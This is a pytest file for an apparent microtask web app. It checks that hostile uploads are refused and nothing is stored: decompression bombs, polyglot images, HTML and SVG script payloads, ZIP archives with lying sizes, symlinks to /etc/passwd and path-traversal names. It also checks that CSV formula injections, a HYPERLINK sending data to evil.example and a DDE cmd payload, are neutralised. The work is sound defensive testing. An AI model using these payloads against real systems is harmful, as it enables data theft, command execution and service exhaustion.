"""A corpus of hostile files, sent through every path that accepts files, and refused with a reason.

The paths: a batch upload (a ZIP archive, or one large image cut into tiles), the
field-guide image upload of the API, and the example images of the owner's settings
page. Every file is built here, small: bombs are a few bytes that claim huge sizes.

A file is refused at once with a 4xx and a JSON reason when the request can tell (an
empty file, a document, a bad image), and otherwise by the worker: the batch fails with
the reason, or, for one bad entry of an archive, that entry is rejected by name while
the rest imports. Either way nothing of the hostile file is stored: no unit, no media
file (not even half of one), no upload left behind. tests/test_importing.py holds the
cases this file does not repeat: SVG, HTML and GIF entries passed off as JPEGs, a
truncated JPEG, a PNG bomb and a ZIP-bomb entry in an archive, paths escaping it.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import stat
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from sqlalchemy import func, select

from microtasks.importing import MAX_ENTRIES, MAX_JSON_DEPTH, MAX_MANIFEST_ENTRIES, MAX_TOTAL_BYTES, media_names
from microtasks.models import Batch, Unit
from tests.conftest import MARKING, TAGGING, make_zip, png_bytes, sign_in
from tests.test_importing import new_project, photo, png_claiming, reasons, upload

# -- the corpus: files built in code ----------------------------------------------------------


def encoded(fmt: str, size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 200, 30)).save(buffer, fmt, **options)
    return buffer.getvalue()


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims ``width`` x ``height`` pixels."""
    data = bytearray(photo(64, 48))
    at = 2
    while data[at + 1] not in (0xC0, 0xC1, 0xC2):  # the start of frame
        at += 2 + struct.unpack(">H", data[at + 2:at + 4])[0]
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def webp_claiming(width: int, height: int) -> bytes:
    """A lossless WebP of 44 bytes whose bitstream header claims ``width`` x ``height`` pixels."""
    data = bytearray(encoded("WEBP", lossless=True))
    assert data[12:16] == b"VP8L"
    bits = struct.unpack("<I", data[21:25])[0] & ~0x0FFFFFFF
    struct.pack_into("<I", data, 21, bits | (width - 1) | (height - 1) << 14)
    return bytes(data)


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
#: PNG's signature, then HTML: a browser sniffing content would find the script.
PNG_MAGIC_HTML = b"\x89PNG\r\n\x1a\n" + HTML
#: A GIF that is also a ZIP (the GIFAR trick): valid for a GIF reader and for a ZIP reader.
GIF_ZIP = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + make_zip({"a.png": png_bytes()})

#: Images that cannot be accepted, with the reason they are refused for.
BAD_IMAGES = {
    "truncated.png": (truncated(encoded("PNG", (400, 300))), "broken PNG image"),
    "truncated.jpg": (truncated(photo(400, 300)), "broken JPEG image"),
    "truncated.webp": (truncated(encoded("WEBP", (400, 300))), "broken WEBP image"),
    "bomb.png": (png_claiming(30_000, 30_000), "decompression bomb"),
    "bomb.jpg": (jpeg_claiming(65_000, 65_000), "decompression bomb"),
    "empty.png": (b"", "not a JPEG, PNG or WebP image"),
    "drawing.png": (SVG, "SVG text passed off as an image"),
    "page.jpg": (HTML, "HTML text passed off as an image"),
    "page.png": (PNG_MAGIC_HTML, "broken PNG image"),
    "gifar.png": (GIF_ZIP, "a GIF image"),
    # Over the 100-megapixel limit of an archive's images and example images, not over the 400 of an image to
    # tile (no WebP can claim more than 16383²).
    "bomb.webp": (webp_claiming(16_383, 16_383), "decompression bomb"),
}


def raw_zip(members: list[dict[str, Any]]) -> bytes:
    """A ZIP written by hand (stored, not compressed), so that sizes and counts can lie.

    Each member gives ``name`` and ``data``, optionally ``size`` (the unpacked size it
    claims), ``shared`` (point at the first member's data instead of carrying its own),
    ``flags`` (1: encrypted) and ``method`` (the compression method it claims).
    """
    body, directory = bytearray(), bytearray()
    for member in members:
        name, data = member["name"].encode(), member.get("data", b"")
        size, crc = member.get("size", len(data)), zlib.crc32(data)
        flags, method = member.get("flags", 0), member.get("method", zipfile.ZIP_STORED)
        if member.get("shared"):
            offset = 0
        else:
            offset = len(body)
            body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 0, crc, len(data), size,
                                len(name), 0)
            body += name + data
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 0x031E, 20, flags, method, 0, 0, crc, len(data),
                                 size, len(name), 0, 0, 0, 0, 0, offset) + name
    count = min(len(members), 0xFFFF)
    return bytes(body + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory),
                                                len(body), 0))


def zip_with(files: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def symlink_zip(link: str, target: str) -> bytes:
    """A ZIP holding a good image and a symbolic link named ``link`` to ``target``, as ``zip --symlinks`` writes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("ok.png", png_bytes(colour="blue"))
        entry = zipfile.ZipInfo(link)
        entry.create_system = 3  # Unix: the high bits of the attributes are the file's mode
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, target)
    return buffer.getvalue()


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


# -- what was stored ------------------------------------------------------------------------


def files_in(folder: Path) -> set[str]:
    return {p.name for p in folder.iterdir()} if folder.exists() else set()


@pytest.fixture()
def stored(settings, session_maker):  # type: ignore[no-untyped-def]
    """What is stored now, to compare with what is stored after a hostile upload: files, units and batches."""

    def snapshot() -> dict[str, Any]:
        with session_maker() as session:
            rows = {"units": session.scalar(select(func.count()).select_from(Unit)),
                    "batches": session.scalar(select(func.count()).select_from(Batch))}
        return {"media": files_in(settings.media_dir), "uploads": files_in(settings.instance_dir / "uploads"), **rows}

    return snapshot


def batch_report(client, owner, project: dict[str, Any], reply) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    assert reply.status_code == 202, reply.get_json()
    return client.get(f"/api/v1/projects/{project['id']}/batches/{reply.get_json()['id']}",
                      headers=owner["headers"]).get_json()


def failed_batch(client, owner, run_jobs, project: dict[str, Any], content: bytes,  # type: ignore[no-untyped-def]
                 filename: str = "batch.zip") -> dict[str, Any]:
    reply = upload(client, owner, project, content, filename)
    run_jobs()
    report = batch_report(client, owner, project, reply)
    assert (report["state"], report["imported"]) == ("failed", 0), report
    return report


# -- one upload that is not a ZIP or an image: refused before it is stored ---------------------


#: Uploads that are neither a ZIP archive nor an image, with what they are said to look like.
NOT_UPLOADS = {
    "empty.zip": (b"", "an empty file"),
    "drawing.png": (SVG, "SVG text passed off as an image"),
    "page.jpg": (HTML, "HTML text passed off as an image"),
    "gifar.zip": (GIF_ZIP, "a GIF image"),
    "report.zip": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "a PDF document"),
    "notes.zip": (b"file,name\na.png,first\n", "not a JPEG, PNG or WebP image"),
}


@pytest.mark.parametrize("filename", NOT_UPLOADS)
def test_an_upload_neither_zip_nor_image_is_a_422_and_stores_nothing(client, owner, stored, filename):
    """An empty file, a document or a polyglot is refused at once, naming what it looks like: no batch, no file."""
    content, reason = NOT_UPLOADS[filename]
    project = new_project(client, owner)
    before = stored()
    reply = upload(client, owner, project, content, filename)
    body = reply.get_json()
    assert reply.status_code == 422 and (body["code"], body["status"]) == (422, "Unprocessable Entity")
    assert body["message"].startswith(f"{filename}: {reason}") and "upload a ZIP archive" in body["message"]
    assert stored() == before


# -- one image to cut into tiles: the worker fails the batch -----------------------------------


@pytest.mark.parametrize("name", ["truncated.png", "truncated.webp", "bomb.png", "bomb.jpg", "page.png"])
def test_a_hostile_image_to_tile_fails_its_batch_and_stores_nothing(client, owner, run_jobs, stored, name):
    """A broken image or a decompression bomb sent alone fails its tiles batch with the reason, storing nothing."""
    content, reason = BAD_IMAGES[name]
    project = new_project(client, owner, MARKING)
    before = stored()
    report = failed_batch(client, owner, run_jobs, project, content, name)
    assert report["kind"] == "tiles" and report["error"].startswith(f"{name}: ") and reason in report["error"]
    assert stored() == {**before, "batches": before["batches"] + 1}


def test_a_long_file_name_is_cut_to_fit(client, owner, run_jobs):
    """A name of thousands of characters is kept to its first 255, the batch name's length on every database."""
    project = new_project(client, owner, MARKING)
    report = batch_report(client, owner, project, upload(client, owner, project, png_bytes(), "a" * 10_000 + ".png"))
    assert report["name"] == "a" * 255


# -- example images: the field-guide upload and the settings page ------------------------------


@pytest.mark.parametrize("name", BAD_IMAGES)
def test_a_hostile_example_image_is_a_422_and_stores_nothing(client, owner, stored, name):
    """The field-guide image upload refuses every bad image with the file's name and the reason."""
    content, reason = BAD_IMAGES[name]
    project = new_project(client, owner)
    before = stored()
    reply = client.post(f"/api/v1/projects/{project['id']}/images", headers=owner["headers"],
                        data={"file": (io.BytesIO(content), name)}, content_type="multipart/form-data")
    assert reply.status_code == 422, reply.get_json()
    message = reply.get_json()["errors"]["json"]["file"][0]
    assert message.startswith(f"{name}: ") and reason in message
    assert stored() == before


@pytest.mark.parametrize("name", ["drawing.png", "bomb.jpg", "truncated.webp"])
def test_a_hostile_example_image_on_the_settings_page_is_refused(client, owner, stored, session_maker, name):
    """The settings page shows the reason (422) and saves nothing: no setting, no image."""
    content, reason = BAD_IMAGES[name]
    project = new_project(client, owner)
    token = sign_in(client, owner)
    before = stored()
    reply = client.post(f"/owner/projects/{project['id']}/settings", content_type="multipart/form-data", data={
        "csrf_token": token, "name": "Renamed", "labels": "cat\ndog", "task_type": "tagging", "redundancy": "3",
        "languages": "en", "guide-0-label": "cat", "guide-0-text": "Whiskers.",
        "guide-0-upload": (io.BytesIO(content), name)})
    assert reply.status_code == 422 and reason in reply.get_data(as_text=True)
    assert stored() == before
    assert client.get(f"/api/v1/projects/{project['id']}", headers=owner["headers"]).get_json()["name"] == \
        TAGGING["name"]


def test_a_polyglot_image_is_stored_without_its_payload(client, owner, settings):
    """A real PNG carrying HTML and a ZIP after its end is accepted as the image only: the copies are re-encoded."""
    project = new_project(client, owner)
    payload = HTML + make_zip({"evil.html": HTML})
    reply = client.post(f"/api/v1/projects/{project['id']}/images", headers=owner["headers"],
                        data={"file": (io.BytesIO(png_bytes(colour="green") + payload), "cat.png")},
                        content_type="multipart/form-data")
    assert reply.status_code == 201, reply.get_json()
    media = reply.get_json()["media"]
    for name in (media, media.replace(".webp", ".thumb.webp")):
        data = (settings.media_dir / name).read_bytes()
        assert data.startswith(b"RIFF") and b"<script>" not in data and b"PK\x03\x04" not in data


# -- entries of an archive: each bad one rejected by name, the rest imported --------------------


#: Bad entries of an archive: a file, or (a dict) how the archive claims to hold a good one, with the reason.
ENTRIES = {
    **{name: BAD_IMAGES[name] for name in ("truncated.png", "truncated.webp", "bomb.jpg", "bomb.webp", "empty.png",
                                           "page.png")},
    "inner.png": (make_zip({"a.png": png_bytes()}), "a ZIP archive, not a JPEG"),
    "secret.png": ({"flags": 1}, "cannot be read"),  # encrypted
    "deflate64.png": ({"method": 9}, "unsupported compression"),
}


@pytest.mark.parametrize("name", ENTRIES)
def test_a_hostile_entry_is_rejected_while_the_rest_imports(client, owner, run_jobs, stored, name):
    """A bad entry (a file, or how the archive claims to hold it) is rejected by name with the reason; only the
    good image is stored."""
    content, reason = ENTRIES[name]
    project = new_project(client, owner)
    good = png_bytes(colour="blue")
    before = stored()
    if isinstance(content, dict):  # an entry the archive claims is encrypted, or compressed in an unknown way
        archive = raw_zip([{"name": "ok.png", "data": good}, {"name": name, "data": png_bytes(), **content}])
    else:
        archive = make_zip({name: content, "ok.png": good})
    reply = upload(client, owner, project, archive)
    run_jobs()
    report = batch_report(client, owner, project, reply)
    assert (report["state"], report["imported"]) == ("done", 1)
    assert reason in reasons(report)[name]
    assert stored()["media"] - before["media"] <= set(media_names(hashlib.sha256(good).hexdigest()))


@pytest.mark.parametrize("target", ["/etc/passwd", "../../instance/secret_key", "ok.png"])
def test_a_symbolic_link_in_an_archive_is_not_followed(client, owner, run_jobs, target):
    """A link entry is rejected as a link, whatever it points at, and the rest imports."""
    project = new_project(client, owner)
    reply = upload(client, owner, project, symlink_zip("link.png", target))
    run_jobs()
    report = batch_report(client, owner, project, reply)
    assert report["imported"] == 1
    assert reasons(report) == {"link.png": "a symbolic link, not a file (links are not followed)"}


@pytest.mark.parametrize("name", ["\\\\server\\share\\evil.png", "./../evil.png", "photos/../../../evil.png"])
def test_more_paths_escaping_the_archive_are_rejected(client, owner, run_jobs, name):
    """Windows network paths and paths that climb out through a folder are rejected by name."""
    project = new_project(client, owner)
    reply = upload(client, owner, project, make_zip({name: png_bytes(colour="red"), "ok.png": png_bytes()}))
    run_jobs()
    assert reasons(batch_report(client, owner, project, reply)) == {name: "path escapes the archive"}


# -- archives as a whole: the worker fails the batch --------------------------------------------


def many_entries() -> bytes:
    """One entry more than allowed, all pointing at the same few bytes (the listing is all there is)."""
    first = {"name": "0.png", "data": png_bytes()}
    return raw_zip([first] + [{"name": f"{i}.png", "data": first["data"], "shared": True}
                              for i in range(1, MAX_ENTRIES + 1)])


def lying_sizes() -> bytes:
    """Two entries of a few bytes that claim 3 GB each: more than the archive may unpack to in all."""
    return raw_zip([{"name": f"{i}.png", "data": b"\0" * 16, "size": 3 * 1024**3} for i in range(2)])


def manifest_rows(rows: int) -> bytes:
    return zip_with({"manifest.csv": b"file\n" + b"a.png\n" * rows, "a.png": png_bytes()})


#: Archives unusable as a whole: how to build one (when the test runs: some are megabytes), and the reason.
ARCHIVES = {
    "empty": (lambda: raw_zip([]), "batch.zip: no files in it to import"),
    "many entries": (many_entries, f"more than the {MAX_ENTRIES} allowed"),
    "lying sizes": (lying_sizes, f"more than the {MAX_TOTAL_BYTES} allowed"),
    "manifest bomb": (lambda: zip_with({"manifest.csv": b"file\n" + b"a.png\n" * 400_000}, zipfile.ZIP_DEFLATED),
                      "manifest.csv: compressed"),
    "a million rows": (lambda: manifest_rows(1_000_000),
                       f"manifest.csv: more than the {MAX_MANIFEST_ENTRIES} entries"),
    "one huge line": (lambda: zip_with({"manifest.csv": b"file," + b"x" * 1_000_000, "a.png": png_bytes()}),
                      "manifest.csv, line 1: field larger than field limit"),
    "UTF-16": (lambda: zip_with({"manifest.json": json.dumps([{"file": "a.png"}]).encode("utf-16"),
                                 "a.png": png_bytes()}), "manifest.json, line 1: not UTF-8 text"),
    "NUL byte": (lambda: zip_with({"manifest.csv": b"file,site\na.png,no\0rth\n", "a.png": png_bytes()}),
                 "manifest.csv, line 2: a NUL character"),
    "NUL escape": (lambda: zip_with({"manifest.jsonl": b'{"file": "a.png", "site": "no\\u0000rth"}\n',
                                     "a.png": png_bytes()}), "manifest.jsonl, line 1: a NUL character in a text"),
    "half a surrogate pair": (lambda: zip_with({"manifest.json": b'[{"file": "a.png", "site": "\\ud800"}]',
                                                "a.png": png_bytes()}),
                              "manifest.json: half of a UTF-16 surrogate pair"),
    "NaN": (lambda: zip_with({"manifest.json": b'[{"file": "a.png", "depth": NaN}]', "a.png": png_bytes()}),
            "manifest.json: NaN is not a number JSON allows"),
    "nested JSON": (lambda: zip_with({"manifest.json": nested(100_000).encode(), "a.png": png_bytes()}),
                    f"manifest.json: nested more than {MAX_JSON_DEPTH} deep"),
    "nested JSON line": (lambda: zip_with({"manifest.jsonl": f'{{"file": "a.png", "x": {nested(50)}}}'.encode(),
                                           "a.png": png_bytes()}), "manifest.jsonl, line 1: nested more than"),
    "manifest as a link": (lambda: symlink_zip("manifest.csv", "/etc/passwd"), "manifest.csv: a symbolic link"),
    "broken ZIP": (lambda: make_zip({"a.png": png_bytes()})[:-30], "not a readable ZIP archive"),
}


@pytest.mark.parametrize("case", ARCHIVES)
def test_a_hostile_archive_fails_its_batch_and_stores_nothing(client, owner, run_jobs, stored, case):
    """An archive unusable as a whole fails its batch with the reason: no unit, no media file, no upload kept."""
    build, reason = ARCHIVES[case]
    project = new_project(client, owner)
    before = stored()
    report = failed_batch(client, owner, run_jobs, project, build())
    assert reason in report["error"]
    assert stored() == {**before, "batches": before["batches"] + 1}


# -- manifests: what they name, and what they carry ---------------------------------------------


def test_manifest_rows_naming_no_usable_file_are_rejected_by_line(client, owner, run_jobs):
    """Rows naming a missing file, a path out of the archive, a folder, the manifest, a wrong case or a
    file named twice are each rejected with their line; the good row imports."""
    project = new_project(client, owner)
    rows = ["a.png", "gone.png", "../a.png", "photos", "photos/", "manifest.csv", "A.PNG", "a.png", ""]
    manifest = "file,name\n" + "".join(f"{row},unit {i}\n" for i, row in enumerate(rows))
    reply = upload(client, owner, project, make_zip({"manifest.csv": manifest.encode(), "a.png": png_bytes(),
                                                     "photos/b.png": png_bytes(colour="blue")}))
    run_jobs()
    report = batch_report(client, owner, project, reply)
    assert report["imported"] == 1
    assert [(r["name"], r["reason"]) for r in report["rejected"]] == [
        ("gone.png", "manifest.csv, line 3: no such file in the upload"),
        ("../a.png", "manifest.csv, line 4: no such file in the upload"),
        ("photos", "manifest.csv, line 5: no such file in the upload"),
        ("photos/", "manifest.csv, line 6: no such file in the upload"),
        ("A.PNG", "manifest.csv, line 8: no such file in the upload"),
        ("manifest.csv, line 10", "no 'file' given"),
        ("manifest.csv", "not a JPEG, PNG or WebP image"),  # rows are read first, then files
        ("a.png", "duplicate of unit 0"),
    ]


@pytest.mark.parametrize(("gold", "reason"), [
    (nested(100), "nested more than"),
    ('{"label": "cat", "x": NaN}', "NaN is not a number JSON allows"),
], ids=["nested", "NaN"])
def test_a_gold_answer_no_database_can_store_rejects_its_row(client, owner, run_jobs, gold, reason):
    """A gold answer nested too deep or carrying NaN rejects its row with the reason; the rest imports."""
    project = new_project(client, owner)
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["file", "gold"], ["a.png", gold], ["b.png", "cat"]])
    reply = upload(client, owner, project, make_zip({"manifest.csv": buffer.getvalue().encode(), "a.png": png_bytes(),
                                                     "b.png": png_bytes(colour="blue")}))
    run_jobs()
    report = batch_report(client, owner, project, reply)
    assert report["imported"] == 1
    assert reason in reasons(report)["a.png"] and reasons(report)["a.png"].startswith("gold answer: ")


def test_formulas_in_a_manifest_are_kept_as_text_and_neutralised_in_csv_exports(client, owner, run_jobs,
                                                                                new_volunteer, session_maker):
    """Cells a spreadsheet would run are data for the import, and leave in a CSV export prefixed with a quote."""
    project = new_project(client, owner, {**TAGGING, "published": True})
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["file", "name", "site"], ["a.png", formula, "+cmd|' /C calc'!A0"]])
    reply = upload(client, owner, project, make_zip({"manifest.csv": buffer.getvalue().encode(), "a.png": png_bytes()}))
    run_jobs()
    assert batch_report(client, owner, project, reply)["imported"] == 1
    with session_maker() as session:
        unit = session.scalars(select(Unit).where(Unit.project_id == project["id"])).one()
        assert (unit.external_id, unit.data) == (formula, {"site": "+cmd|' /C calc'!A0"})
    volunteer = new_volunteer()
    served = client.post(f"/api/v1/projects/{project['id']}/next", headers=volunteer).get_json()["unit"]
    client.post(f"/api/v1/units/{served['id']}/answers", headers=volunteer,
                json={"answer_id": "00000000-0000-4000-8000-00000000000a", "payload": {"label": "cat"}})
    exported = client.get(f"/api/v1/projects/{project['id']}/export?kind=answers&format=csv",
                          headers=owner["headers"]).get_data(as_text=True)
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["unit"] == "'" + formula
